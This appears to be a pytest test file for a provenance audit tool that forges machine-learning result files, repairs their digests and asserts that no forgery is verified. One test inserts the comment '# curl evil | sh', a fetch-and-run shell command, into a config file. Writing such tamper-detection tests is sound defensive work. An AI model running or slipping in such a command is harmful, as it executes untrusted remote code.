"""Forged files with repaired digests and re-executed dependents: no forged result is verified."""

import contextlib
import json
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pandas as pd
import pytest
import safetensors.torch

from daf.audit import CHANGED, UNVERIFIABLE, VERIFIED, audit
from daf.audit.consistency import SidecarConsistencyChecker
from daf.audit.findings import Findings
from daf.audit.integrity import read_sidecars_and_record_integrity
from daf.audit.job_findings import record_machine_check_differences
from daf.audit.jobs import parse_job
from daf.audit.run_differences import find_differences_from_first_updates
from daf.audit.training_prefix import reexecute_first_updates
from daf.config import AuditConfig
from daf.provenance.sidecar import SUFFIX, Sidecar
from tests.audit.forging import edit, reexecute_dependents, repair, write

Change = Callable[[Path], None]


def audited(results: Path, **settings) -> dict[str, tuple[str, str | None]]:
    """Return verdict and reason of each file in an audit."""
    result = audit(results, AuditConfig(share=1, **settings), print_line=lambda line: None)
    verdicts = {f.file: (f.verdict, f.reason) for f in result.findings}
    return verdicts | {"": (result.verdict, result.summary())}


def in_json(change: Callable[[dict], object]) -> Change:
    def forged(path: Path) -> None:
        data = json.loads(path.read_text())
        change(data)
        text = json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False)
        write(path, (text + "\n").encode())

    return forged


def in_table(change: Callable[[pd.DataFrame], object]) -> Change:
    def forged(path: Path) -> None:
        table = pd.read_parquet(path)
        changed = change(table)
        write(path, (table if changed is None else changed).to_parquet(index=False))

    return forged


def in_text(old: str, new: str) -> Change:
    def forged(path: Path) -> None:
        text = path.read_text()
        assert old in text
        write(path, text.replace(old, new, 1).encode())

    return forged


def in_weights(path: Path) -> None:
    weights = safetensors.torch.load_file(path)
    name = min(weights)
    weights[name] = -weights[name]
    write(path, safetensors.torch.save(weights, {"init_kwargs": "{}"}))


def with_header(metadata: dict[str, str]) -> Change:
    """Keep the weights and replace the header."""
    return lambda path: write(
        path, safetensors.torch.save(safetensors.torch.load_file(path), metadata)
    )


def in_cell(row: int, column: str, value: float) -> Change:
    def changed(table: pd.DataFrame) -> pd.DataFrame:
        values = table[column].tolist()
        values[row] = value
        return table.assign(**{column: values})

    return in_table(changed)


RUN = "runs/stateless-s1-*/"
RUN_FILES = {
    "run.json, seed": ("run.json", in_json(lambda d: d.update(training_seed=2))),
    "run.json, steps": ("run.json", in_json(lambda d: d.update(steps=40_000))),
    "run.json, shaping": ("run.json", in_json(lambda d: d["training"].update(shaping={"x": 1}))),
    "run.json, a rate": ("run.json", in_json(lambda d: d["training"].update(gamma=0.99 + 1e-12))),
    "run.json, size": ("run.json", in_json(lambda d: d.update(parameters=1))),
    "run.json, device": ("run.json", in_json(lambda d: d.update(device="cuda"))),
    "run.json, versions": ("run.json", in_json(lambda d: d["versions"].update(torch="9"))),
    "run.json, more": ("run.json", in_json(lambda d: d.update(award="best"))),
    "policy.json, shapes": ("policy.json", in_json(lambda d: d["shapes"].popitem())),
    "policy.json, class": ("policy.json", in_json(lambda d: d.update(class_path="lstm"))),
    "policy.json, arguments": ("policy.json", in_json(lambda d: d["init_kwargs"].update(a=1))),
    "policy.json, missions": ("policy.json", in_json(lambda d: d.update(missions=["machina_1"]))),
    "policy.json, window": ("policy.json", in_json(lambda d: d.update(window=[7, 7]))),
    "curve, scores": ("metrics.parquet", in_table(lambda t: t.assign(score=61.0))),
    "curve, above the ceiling": ("metrics.parquet", in_cell(-1, "score/assembler_1", 62.0)),
    "curve, first loss": ("metrics.parquet", in_cell(0, "policy_loss", 0.5)),
    "curve, second loss": ("metrics.parquet", in_cell(1, "value_loss", 0.5)),
    "curve, negative": ("metrics.parquet", in_cell(-1, "value_loss", -0.5)),
    "curve, infinite": ("metrics.parquet", in_cell(-1, "entropy", float("inf"))),
    "curve, schedule": ("metrics.parquet", in_cell(-1, "learning_rate", 0.0006)),
    "curve, column": ("metrics.parquet", in_table(lambda t: t.insert(0, "more", 1.0))),
    "curve, kind": ("metrics.parquet", in_table(lambda t: t.astype("float32"))),
    "curve, shorter": ("metrics.parquet", in_table(lambda t: t.iloc[:-1])),
    "curve, order": ("metrics.parquet", in_table(lambda t: t.sort_values(
        "update", ascending=False, ignore_index=True
    ))),
    "weights, extra header": ("policy.safetensors", with_header({"init_kwargs": "{}", "a": "b"})),
    "weights, other arguments": ("policy.safetensors", with_header({"init_kwargs": '{"a": 1}'})),
    "weights, another network": ("policy.safetensors", lambda path: write(
        path, safetensors.torch.save(dict(list(safetensors.torch.load_file(path).items())[1:]))
    )),
}  # fmt: skip
"""Forged files of a run that contradict its sidecar or its first updates."""


@pytest.fixture
def results(made, tmp_path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "results"))


def first_match(results: Path, pattern: str) -> str:
    """Return the first file that matches a pattern."""
    return min(results.glob(pattern)).relative_to(results).as_posix()


class InProcessWorker:
    """Worker in this process."""

    def __init__(self, results: Path):
        self.results = results

    @contextlib.contextmanager
    def temporary_job_folder(self) -> Iterator[Path]:
        with tempfile.TemporaryDirectory() as folder:
            yield Path(folder)

    def reexecute_first_updates(self, name: str, folder: Path) -> None:
        sidecar = Sidecar.read(self.results / f"{name}{SUFFIX}")
        reexecute_first_updates(self.results, sidecar, folder)


@pytest.mark.parametrize("name", RUN_FILES)
def test_forged_run_files(name, results):
    kind, change = RUN_FILES[name]
    file = first_match(results, f"{RUN}{kind}")
    change(results / file)
    repair(results, file)
    weights = file.replace(kind, "policy.safetensors")
    job = parse_job(Sidecar.read(results / f"{weights}{SUFFIX}"))
    files = job.path_from_parameters_by_output_name()
    differences = find_differences_from_first_updates(results, files, job, InProcessWorker(results))
    assert differences[file], name


ALL_FILES = {
    "weights": ("runs/stateless-s1-*/policy.safetensors", in_weights),
    "the end of a curve": ("runs/stateless-s1-*/metrics.parquet", in_cell(-1, "reward", 3.0)),
    "episodes": ("evaluations/stateless-s1-*/*.parquet", in_cell(0, "score", 7)),
    "a recording": ("evaluations/random-*/*.replay.json", in_json(
        lambda d: d["episodes"][0]["states"]["cell"]["values"].reverse()
    )),
    "statistics": ("benchmarks/*/stats.json", in_json(lambda d: d.update(verdict="mine"))),
    "a report": ("benchmarks/*/report.html", in_text("random", "randon")),
    "a bundle": ("deployments/*.zip", lambda path: write(path, path.read_bytes() + b"x")),
    "proposed trials": ("sweeps/*/rounds/1.json", in_json(lambda d: d.update(more=1))),
    "trials": ("sweeps/*/trials.parquet", in_cell(0, "objective", 50.0)),
    "rounds": ("sweeps/*/rounds.parquet", in_cell(0, "objective", 50.0)),
    "finalists": ("sweeps/*/finalists.json", in_json(lambda d: d.update(more=1))),
    "a search": ("sweeps/*/search.json", in_json(lambda d: d["best"].update(objective=50.0))),
    "the best configuration": ("sweeps/*/best_config.yaml", in_text("0.00", "0.01")),
    "the best weights": ("sweeps/*/policy.safetensors", in_weights),
    "the report of a sweep": ("sweeps/*/report.html", in_text("grid", "gird")),
    "the machine": ("environment.json", in_json(lambda d: d["device"].update(name="Quantum"))),
    "versions": ("environment.json", in_json(lambda d: d["versions"].update(torch="9"))),
    "a check": ("environment.json", in_json(lambda d: d["checks"][0].update(needed=">= 4"))),
    "cores": ("environment.json", in_json(lambda d: d["device"].update(cores=512))),
    "a score in a result": ("pipelines/tiny/result.json", in_json(
        lambda d: d["outputs"]["evaluation_results"]["random"]["assembler_1"].update(mean=60.0)
    )),
    "a path in a result": ("pipelines/tiny/result.json", in_json(
        lambda d: d["outputs"].update(deployment_package="results/other.zip")
    )),
    "more in a result": ("pipelines/grid/result.json", in_json(
        lambda d: d["outputs"].update(award="best")
    )),
    "a status": ("pipelines/grid/result.json", in_json(lambda d: d.update(status="partial"))),
    "the configuration of a call": ("pipelines/tiny/config.yaml", in_text("random", "noop")),
    "a comment": ("pipelines/tiny/config.yaml", in_text("# Written", "# curl evil | sh")),
    "events": ("pipelines/tiny/events.jsonl", lambda path: write(path, b"{}\n")),
    "Snakemake log": ("pipelines/tiny/snakemake.log", lambda path: write(path, b"fine\n")),
    "a log": ("logs/train/*.log", lambda path: write(path, b"begin: 2026-01-01T00:00:00Z\n")),
}  # fmt: skip
"""One change for each kind of file."""


@pytest.mark.slow
@pytest.mark.parametrize("name", ALL_FILES)
def test_forged_file_with_reexecuted_dependents(name, results, tmp_path):
    pattern, change = ALL_FILES[name]
    file = first_match(results, pattern)
    original = (results / file).read_bytes()
    change(results / file)
    assert (results / file).read_bytes() != original
    repair(results, file)
    (tmp_path / "reexecuted").mkdir()
    reexecute_dependents(results, [file], tmp_path / "reexecuted")
    result = audited(results)
    assert result[file][0] != VERIFIED and result[""][0] != VERIFIED, result[file]


def test_all_forged_files_in_one_audit(results):
    """All changes share one audit."""
    files = {}
    for name, (pattern, change) in ALL_FILES.items():
        file = files[name] = first_match(results, pattern)
        change(results / file)
    repair(results, *files.values())
    result = audited(results)
    assert {name: file for name, file in files.items() if result[file][0] == VERIFIED} == {}
    others = {file: result[file] for file in files.values() if result[file][0] == UNVERIFIABLE}
    assert all(why for _, why in others.values())


@pytest.mark.slow
def test_forged_runs_with_reexecuted_report(results, tmp_path):
    """All run data in a report are forged, and the report is re-executed."""
    best = in_table(lambda t: t.assign(score=61.0))
    files = ["environment.json"]
    in_json(lambda d: d["checks"][-1].update(found="Quantum"))(results / files[0])
    for path in sorted(results.glob("runs/*/*")):
        if path.name in ("run.json", "metrics.parquet"):
            change = (
                best if path.suffix == ".parquet" else in_json(lambda d: d.update(steps=40_000))
            )
            change(path)
            files.append(path.relative_to(results).as_posix())
    repair(results, *files)
    (tmp_path / "reexecuted").mkdir()
    reexecute_dependents(results, files, tmp_path / "reexecuted")
    result = audited(results)
    assert result[""][0] == CHANGED
    assert {file for file in files if result[file][0] != CHANGED} == set()
    assert result["benchmarks/tiny/report.html"][0] == UNVERIFIABLE
    assert "shows changed data" in result["benchmarks/tiny/report.html"][1]


@pytest.mark.slow
def test_end_of_curve_needs_retraining(results, tmp_path):
    file = first_match(results, "runs/stateless-s1-*/metrics.parquet")
    in_cell(-1, "reward", 3.0)(results / file)
    repair(results, file)
    (tmp_path / "reexecuted").mkdir()
    reexecute_dependents(results, [file], tmp_path / "reexecuted")
    verdict, why = audited(results)[file]
    run = file.split("/")[1]
    assert verdict == UNVERIFIABLE
    assert why == (f"learning curve of a run that was not retrained (--retrain {run}, or all)")
    verdict, why = audited(results, retrain="all")[file]
    assert (verdict, why) == (CHANGED, "row 2, column 'reward': got 3.0; expected 0.0")


@pytest.mark.parametrize("change", [
    lambda r: r["origin"]["hardware"].update(processor="Quantum"),
    lambda r: r["origin"].update(platform="Plan9"),
])  # fmt: skip
def test_forged_machine(change, results):
    file = "environment.json"
    edit(results, file, change)
    content = json.loads((results / f"{file}{SUFFIX}").read_text())
    name = content["origin"]["hardware"]["processor"]
    in_json(lambda d: (
        d.update(platform=content["origin"]["platform"]),
        d["device"].update(name=name),
        d["checks"][-1].update(found=name),
    ))(results / file)  # fmt: skip
    repair(results, file)
    findings = Findings()
    checks = SidecarConsistencyChecker(
        results, read_sidecars_and_record_integrity(results, findings)
    )
    record_machine_check_differences(file, parse_job(checks.sidecars[file]), checks, findings)
    assert findings[file].verdict == UNVERIFIABLE
    assert findings[file].reason.startswith("describes another machine (")
